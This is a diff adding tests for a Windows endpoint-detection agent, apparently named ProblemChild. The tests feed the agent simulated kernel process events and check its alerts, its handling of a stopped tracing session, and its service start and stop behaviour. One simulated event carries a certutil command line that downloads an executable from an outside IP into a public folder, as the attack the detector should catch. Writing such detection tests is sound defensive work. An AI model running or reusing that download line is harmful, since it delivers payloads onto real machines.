@@ -1,0 +1,98 @@
+import assert from 'node:assert/strict';
+import { once } from 'node:events';
+import { test } from 'node:test';
+import { AgentFolder, until } from './agent-process.ts';
+import { DoubleScript } from './double-script.ts';
+import { controlService, untilService } from './service-control.ts';
+
+const system32 = '\\Device\\HarddiskVolume3\\Windows\\System32';
+const stopLimitMs = 10_000;
+
+function isAlertOn(pid: number) {
+  return ({ event, process }: { event: { dataset?: unknown }; process?: { pid?: number } }) =>
+    event.dataset === 'problemchild.alert' && process?.pid === pid;
+}
+
+function sayAttack(etw: DoubleScript, pid: number): void {
+  etw.say('running', 600, 4, 0, '\\Device\\HarddiskVolume3\\Windows\\explorer.exe', 'explorer.exe');
+  etw.say('start', pid - 4, 600, 0, `${system32}\\notepad.exe`, 'notepad.exe notes.txt');
+  etw.say(
+    'start',
+    pid,
+    600,
+    0,
+    `${system32}\\certutil.exe`,
+    'certutil -urlcache -split -f http://203.0.113.7/a.exe c:\\users\\public\\a.exe',
+  );
+}
+
+test('run in the foreground: from the kernel’s events to the record, stopped in order', async () => {
+  const etw = new DoubleScript('etw');
+  const folder = new AgentFolder(etw.path);
+  const agent = folder.start();
+  const ended = once(agent, 'exit');
+  sayAttack(etw, 4_704);
+  await until('an alert in the record', () => folder.record().some(isAlertOn(4_704))).catch(
+    (error: unknown) => {
+      throw new Error(`${String(error)}\n${folder.said('stderr')}`);
+    },
+  );
+  etw.say('start', 4_708, 600, 0, `${system32}\\notepad.exe`, 'notepad.exe the last one.txt');
+  folder.stop();
+  const askedMs = Date.now();
+  const [exitCode] = await ended;
+  assert.ok(Date.now() - askedMs < stopLimitMs, `stopped after ${Date.now() - askedMs} ms`);
+  assert.equal(exitCode, 0, folder.said('stderr'));
+  assert.match(folder.said('stdout'), /certutil/);
+  const summary =
+    /records (\d+), process events (\d+), scored (\d+), related (\d+), filtered (\d+), rejected (\d+)/.exec(
+      folder.said('stderr'),
+    );
+  assert.ok(summary, folder.said('stderr'));
+  const [records, starts, scored, related, filtered, rejected] = summary.slice(1).map(Number);
+  assert.equal(records, scored! + related! + filtered! + rejected!);
+  assert.ok(starts! >= 2);
+});
+
+test('a stopped tracing session is an alert in the record', async () => {
+  const etw = new DoubleScript('etw');
+  const folder = new AgentFolder(etw.path);
+  const agent = folder.start();
+  const ended = once(agent, 'exit');
+  etw.say('stop', 'classic');
+  etw.say('start', 4_800, 600, 0, `${system32}\\notepad.exe`, 'notepad.exe');
+  const isTold = (dataset: string, action: string) =>
+    folder.record().some(({ event }) => event['dataset'] === dataset && event['action'] === action);
+  await until('the alert', () => isTold('problemchild.alert', 'source-session-stopped'));
+  await until('that it runs again', () => isTold('problemchild.health', 'source-session-started'));
+  folder.stop();
+  await ended;
+  const alert = folder.record().find(({ event }) => event['action'] === 'source-session-stopped');
+  assert.equal(alert?.event['severity'], 73);
+});
+
+test('run as the service: started and stopped by the service controller', async () => {
+  const etw = new DoubleScript('etw');
+  const folder = new AgentFolder(etw.path);
+  // One may be left over from a run that was killed.
+  controlService.remove('ProblemChild');
+  const created = controlService.create(
+    'ProblemChild',
+    folder.command('run', '--service', '--config', folder.config),
+  );
+  try {
+    const started = controlService.start('ProblemChild');
+    await untilService('ProblemChild', 'RUNNING', `${created}${started}`);
+    sayAttack(etw, 4_904);
+    await until('an alert in the record', () => folder.record().some(isAlertOn(4_904)));
+    controlService.stop('ProblemChild');
+    const askedMs = Date.now();
+    await untilService('ProblemChild', 'STOPPED', '');
+    const tookMs = Date.now() - askedMs;
+    assert.ok(tookMs < stopLimitMs, `stopped after ${tookMs} ms`);
+    // WIN32_EXIT_CODE 0: an orderly end, upon which no recovery action follows.
+    assert.match(controlService.query('ProblemChild'), /EXIT_CODE\s*:\s*0\b/);
+  } finally {
+    controlService.remove('ProblemChild');
+  }
+});
